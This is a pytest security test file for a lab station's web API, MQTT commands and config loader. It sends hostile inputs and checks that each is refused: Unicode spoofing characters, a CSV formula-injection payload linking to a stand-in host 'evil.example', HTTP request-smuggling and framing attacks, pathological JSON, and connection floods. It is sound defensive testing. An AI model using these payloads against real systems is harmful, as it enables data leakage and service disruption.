"""Issue #15, security items 8-12: what a hostile or broken client sends to the station's API,
MQTT commands and config, and what the station answers (docs/hardening.md, "Web API and MQTT").
"""

from __future__ import annotations

import contextlib
import csv
import http.client
import json
import socket
import threading
from pathlib import Path
from typing import Any

import pytest
from mqtt_support import wait_for
from station_fakes import RunningStation
from test_station_api import capture, jreq, req

from edge_wbc.comms.commands import CommandError, parse_command
from edge_wbc.config import ConfigError, is_loopback, load_config
from edge_wbc.counting.reports import csv_cell
from edge_wbc.inputs import MAX_SAMPLE_ID_CHARS, InputError, check_sample_id, hidden_char

SAMPLES = Path(__file__).resolve().parent.parent / "samples" / "fields"
pytestmark = pytest.mark.timeout(120)

# Display spoofing: each renders as something other than what it is.
SPOOFS = [
    "LAB-1\u202e43-2",  # RIGHT-TO-LEFT OVERRIDE: shows as LAB-12-34
    "LAB\u2066-7\u2069",  # LEFT-TO-RIGHT ISOLATE ... POP DIRECTIONAL ISOLATE
    "LAB\u200b-7",  # ZERO WIDTH SPACE: looks like LAB-7
    "LAB-7\u200d",  # ZERO WIDTH JOINER
    "A\x1b[31mB",  # terminal escape in a log line
    "A\u2028B",  # LINE SEPARATOR
    "A\x85B",  # C1 NEXT LINE
    "A\ufeffB",  # BOM
]


@pytest.fixture()
def st(tmp_path: Path):
    rs = RunningStation(tmp_path / "data", f"folder:{SAMPLES}", target=3)
    yield rs
    rs.close()


def raw_http(port: int, data: bytes, timeout: float = 10.0) -> bytes:
    """Send bytes as they are (http.client would fix the framing) and read the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        out = b""
        while chunk := s.recv(65536):
            out += chunk
    return out


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


# ---- 8: control and formatting characters in sample IDs ---------------------------------------
@pytest.mark.parametrize("sample", SPOOFS)
def test_one_rule_refuses_hidden_characters(sample: str) -> None:
    assert hidden_char(sample) is not None
    with pytest.raises(InputError, match="must not contain U\\+"):
        check_sample_id(sample)
    with pytest.raises(CommandError, match="must not contain U\\+"):
        parse_command("slide", json.dumps({"action": "new", "sample_id": sample}).encode())


def test_sample_id_length_is_the_same_rule_for_api_and_mqtt() -> None:
    ok = "S" * MAX_SAMPLE_ID_CHARS
    assert check_sample_id(f"  {ok} ") == ok
    assert parse_command("slide", json.dumps({"action": "new", "sample_id": ok}).encode()
                         ).args["sample_id"] == ok
    with pytest.raises(CommandError, match=f"at most {MAX_SAMPLE_ID_CHARS}"):
        parse_command("slide", json.dumps({"action": "new", "sample_id": ok + "S"}).encode())
    # Letters of any script are not hidden characters.
    assert check_sample_id("Проба-7 検体 ñ") == "Проба-7 検体 ñ"


def test_api_refuses_spoofed_sample_ids(st: RunningStation) -> None:
    for sample in SPOOFS:
        status, body = jreq(st.url + "/api/slide/sample", "POST", {"sample_id": sample})
        assert status == 400 and "must not contain U+" in body["error"], (sample, body)
        status, body = jreq(st.url + "/api/slide/new", "POST", {"sample_id": sample})
        assert status == 400 and "must not contain U+" in body["error"], (sample, body)
    assert st.session.state()["sample_id"].startswith("unnamed-")
    assert jreq(st.url + "/api/slide/sample", "POST", {"sample_id": "LAB-12-34"})[0] == 200


def test_config_refuses_hidden_characters_with_key_and_line(tmp_path: Path) -> None:
    cfg = tmp_path / "c.toml"
    cfg.write_text('[mqtt]\nhost = "broker"\nstation_id = "bench\\u202e3"\n', encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        load_config(cfg, env={})
    assert "c.toml:3: mqtt.station_id: must not contain U+202E RIGHT-TO-LEFT OVERRIDE" \
        in str(e.value)
    with pytest.raises(ConfigError, match=r"mqtt\.client_id"):
        load_config(None, env={"EDGE_WBC_MQTT_CLIENT_ID": "a\u200bb"})


# ---- 9: CSV formula injection --------------------------------------------------------------
def test_csv_cells_that_start_a_formula_are_text() -> None:
    for bad in ("=HYPERLINK(\"http://x\")", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(bad) == "'" + bad
    assert csv_cell("LAB-1") == "LAB-1" and csv_cell(3) == 3 and csv_cell(-2.5) == -2.5


def test_reports_neutralise_a_formula_sample_id(st: RunningStation) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert jreq(st.url + "/api/slide/sample", "POST", {"sample_id": evil})[0] == 200
    capture(st, 3)
    for cell in st.session.gallery():
        if cell["label"] == "unidentified":
            st.session.review(cell["id"], "neutrophil")
    slide = st.session.slide["id"]
    status, body = jreq(st.url + "/api/slide/finalise", "POST")
    assert status == 200, body
    for name in ("report.csv", "cells.csv"):
        status, _, data = req(st.url + f"/api/slide/{name}?slide={slide}")
        assert status == 200
        rows = list(csv.reader(data.decode().splitlines()))
        assert rows[1][0] == "'" + evil, name
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)


# ---- 10: framing ---------------------------------------------------------------------------
def test_every_response_forbids_framing(st: RunningStation) -> None:
    answers = [req(st.url + p) for p in ("/", "/api/state", "/static/app.js", "/api/nothing")]
    answers.append(req(st.url + "/api/capture", "POST", raw=b"x", headers={
        "Content-Type": "text/plain"}))
    answers.append(req(st.url + "/api/state", headers={"Host": "evil.example"}))
    for status, h, _ in answers:
        assert h["X-Frame-Options"] == "DENY", status
        assert "frame-ancestors 'none'" in h["Content-Security-Policy"], status
        assert h["X-Content-Type-Options"] == "nosniff", status
    csp = answers[0][1]["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("style-src-attr")[0]
    # The standard library's own refusals (an unknown method, a request line too long) too.
    for line, code in ((b"BREW /pot", 405), (b"GET /" + b"a" * 70000, 414)):
        answer = raw_http(st.server.port, line + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        assert status_of(answer) == code and b"X-Frame-Options: DENY" in answer
        assert b"frame-ancestors 'none'" in answer


def test_report_page_has_its_own_policy(st: RunningStation) -> None:
    capture(st, 3)
    for cell in st.session.gallery():
        if cell["label"] == "unidentified":
            st.session.review(cell["id"], "neutrophil")
    slide = st.session.slide["id"]
    assert jreq(st.url + "/api/slide/finalise", "POST")[0] == 200
    status, h, _ = req(st.url + f"/api/slide/report.html?slide={slide}")
    assert status == 200 and h["X-Frame-Options"] == "DENY"
    assert h["Content-Security-Policy"].startswith("default-src 'none'; style-src 'unsafe-inline'")
    assert "script-src" not in h["Content-Security-Policy"]  # the report runs no script
    # The next response on the server is back to the page's policy.
    assert "script-src 'self'" in req(st.url + "/")[1]["Content-Security-Policy"]


# ---- 12: request framing and odd JSON -----------------------------------------------------
def _post(port: int, body: bytes, length: str | None, path: str = "/api/slide/target") -> bytes:
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    if length is not None:
        head += f"Content-Length: {length}\r\n"
    return raw_http(port, head.encode() + b"Connection: close\r\n\r\n" + body)


@pytest.mark.parametrize("length", ["-5", "abc", "1e3", "+7", " ", "0x10", "٣"])
def test_bad_content_length_is_a_400_with_the_reason(st: RunningStation, length: str) -> None:
    answer = _post(st.server.port, b'{"target": 200}', length)
    assert status_of(answer) == 400, answer[:200]
    assert b"Content-Length must be a whole number" in answer


def test_conflicting_lengths_and_chunked_bodies_are_refused(st: RunningStation) -> None:
    port = st.server.port
    two = raw_http(port, b"POST /api/slide/target HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                         b"Content-Type: application/json\r\nContent-Length: 15\r\n"
                         b"Content-Length: 2\r\n\r\n{\"target\": 200}")
    assert status_of(two) == 400 and b"conflicting Content-Length" in two
    chunked = raw_http(port, b"POST /api/slide/target HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                             b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
                             b"\r\nf\r\n{\"target\": 200}\r\n0\r\n\r\n")
    assert status_of(chunked) == 411
    assert st.session.state()["target"] == 3


@pytest.mark.parametrize("body, reason", [
    (b"[" * 30000 + b"]" * 30000, "nested too deeply"),
    (b'{"target": ' + b"[" * 30000 + b"]" * 30000 + b"}", "nested too deeply"),
    (b'{"target": Infinity}', "Infinity is not a number"),
    (b'{"target": -Infinity}', "-Infinity is not a number"),
    (b'{"target": NaN}', "NaN is not a number"),
    (b'{"target": true}', "whole number of cells, got True"),
    (b'{"target": "200"}', "whole number of cells, got '200'"),
    (b'{"target": 1e400}', "whole number of cells, got inf"),
    (b'{"target": 150.5}', "whole number of cells, got 150.5"),
    (b'{"target": null}', "whole number of cells, got None"),
    (b'"target"', "must be a JSON object"),
    (b'{"target": 200', "not JSON"),
    (b"\xff\xfe{}", "not UTF-8"),
])
def test_odd_json_is_a_clear_refusal(st: RunningStation, body: bytes, reason: str) -> None:
    answer = _post(st.server.port, body, str(len(body)))
    status = status_of(answer)
    assert status in (400, 409), answer[:300]  # 409: well-formed, refused by the session
    assert reason in json.loads(answer.split(b"\r\n\r\n", 1)[1])["error"]
    assert st.session.state()["target"] == 3


def test_a_target_of_true_is_not_a_target_of_one(st: RunningStation) -> None:
    status, body = jreq(st.url + "/api/slide/new", "POST", {"sample_id": "B", "target": True})
    assert status == 400 and "got True" in body["error"]
    assert jreq(st.url + "/api/slide/target", "POST", {"target": 200.0})[0] == 200


def test_bad_trigger_name_is_refused(st: RunningStation) -> None:
    status, body = jreq(st.url + "/api/capture", "POST", {"trigger": "x\u202e" * 20})
    assert status == 400 and "trigger" in body["error"]
    assert jreq(st.url + "/api/capture", "POST", {"trigger": ["a"]})[0] == 400
    assert st.session.state()["fields"] == 0


# ---- 11: idle connections, backlog, bounded threads ----------------------------------------
def _handler_threads() -> int:
    return sum("process_request_thread" in t.name for t in threading.enumerate())


def test_200_idle_connections_hold_no_more_than_the_bound(st: RunningStation) -> None:
    before = _handler_threads()
    idle = [socket.create_connection(("127.0.0.1", st.server.port), timeout=10)
            for _ in range(200)]
    try:
        # Accepted in order: once this is answered, all 200 were taken from the backlog.
        status, body = jreq(st.url + "/api/state")
        assert status == 200 and body["counted"] == 0
        # Threads that gave up their slot may take a moment to end.
        bound = getattr(st.server, "max_handlers", 64)
        wait_for(lambda: _handler_threads() - before <= bound, 10,
                 "handler threads within the bound")
        # Idle ones closed to make room see end-of-stream (not a hang).
        closed = 0
        for s in idle:
            s.settimeout(0.01)
            with contextlib.suppress(OSError):
                closed += s.recv(1) == b""
        assert closed >= 200 - bound
    finally:
        for s in idle:
            s.close()


def test_idle_connection_times_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from edge_wbc.station.server import StationServer

    monkeypatch.setattr(StationServer, "idle_timeout_s", 0.5, raising=False)
    rs = RunningStation(tmp_path / "d", f"folder:{SAMPLES}")
    try:
        with socket.create_connection(("127.0.0.1", rs.server.port), timeout=10) as s:
            s.sendall(b"GET /api/state HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # head never ends
            assert s.recv(1) == b""  # the server gave up; before the fix: timeout here
        # A keep-alive connection that goes quiet after a request is closed the same way.
        conn = http.client.HTTPConnection("127.0.0.1", rs.server.port, timeout=10)
        conn.request("GET", "/api/state")
        conn.getresponse().read()
        assert conn.sock is not None and conn.sock.recv(1) == b""
        conn.close()
    finally:
        rs.close()


def test_every_thread_busy_gets_a_503_not_a_hang(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from edge_wbc.station.server import StationServer

    monkeypatch.setattr(StationServer, "max_handlers", 2)
    monkeypatch.setattr(StationServer, "slot_wait_s", 0.2)
    rs = RunningStation(tmp_path / "d", f"folder:{SAMPLES}")
    streams = []
    try:
        for _ in range(2):  # two event streams: working connections, never closed for room
            c = http.client.HTTPConnection("127.0.0.1", rs.server.port, timeout=10)
            c.request("GET", "/api/events")
            r = c.getresponse()
            assert r.status == 200 and r.fp.readline().startswith(b"event: hello")
            streams.append(c)
        status, h, body = req(rs.url + "/api/state")
        assert status == 503 and h["Retry-After"] == "1" and b"too many" in body
        assert h["X-Frame-Options"] == "DENY"
    finally:
        for c in streams:
            c.close()
        rs.close()


def test_60_concurrent_posts_are_all_answered(st: RunningStation) -> None:
    assert st.server.request_queue_size >= 60
    barrier = threading.Barrier(60)
    results: list[Any] = []
    lock = threading.Lock()

    def post() -> None:
        barrier.wait()
        try:
            r: Any = jreq(st.url + "/api/errors/clear", "POST")[0]
        except OSError as e:  # a reset connection
            r = repr(e)
        with lock:
            results.append(r)

    threads = [threading.Thread(target=post) for _ in range(60)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert results == [200] * 60


def test_loopback_is_one_rule() -> None:
    from edge_wbc.station.server import StationServer

    assert not is_loopback("")  # bind("") listens on every interface
    assert is_loopback("localhost") and is_loopback("127.0.0.2") and is_loopback("::1")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.5")
    with pytest.raises(ValueError, match="token"):
        StationServer(None, None, "", 0, None)  # type: ignore[arg-type]


def test_a_request_without_host_is_served_on_loopback(st: RunningStation) -> None:
    answer = raw_http(st.server.port, b"GET /healthz HTTP/1.0\r\n\r\n")
    assert status_of(answer) == 200


def test_unauthorised_post_closes_the_connection(tmp_path: Path) -> None:
    rs = RunningStation(tmp_path / "d", f"folder:{SAMPLES}", token="t0ken")
    try:
        # The body of a refused POST must not be read as the next request on the connection.
        body = b"GET /api/state HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer t0ken\r\n\r\n"
        answer = raw_http(rs.server.port, b"POST /api/capture HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                          b"Content-Type: application/json\r\nContent-Length: "
                          + str(len(body)).encode() + b"\r\n\r\n" + body)
        assert status_of(answer) == 401 and answer.count(b"HTTP/1.1 ") == 1
    finally:
        rs.close()


def test_remote_actions_are_the_counting_ones_only(st: RunningStation) -> None:
    """#16.3: MQTT runs the same Actions as the page, but never review or error clearing."""
    from edge_wbc.station.actions import Actions

    act = Actions(st.station)
    for name in ("review", "clear_error", "set_sample_id", "__init__", "remote"):
        with pytest.raises(ValueError, match="cannot be run remotely"):
            act.remote(name, {})
    assert act.remote("set_target", {"target": 50})["target"] == 50
    assert act.remote("capture", {})["capture_id"] == 1
    st.wait_idle()
    assert st.station.last_field is not None and st.station.last_field["trigger"] == "mqtt"


def test_mqtt_payloads_get_the_api_json_rules() -> None:
    for raw, reason in [(b"[" * 4000, "nested too deeply"),
                        (b'{"action": "target", "target": Infinity}', "Infinity is not"),
                        (b'{"action": "target", "target": true}', "got True"),
                        (b'{"action": "new", "sample_id": "A\\u202eB"}', r"U\+202E")]:
        with pytest.raises(CommandError, match=reason):
            parse_command("slide", raw)
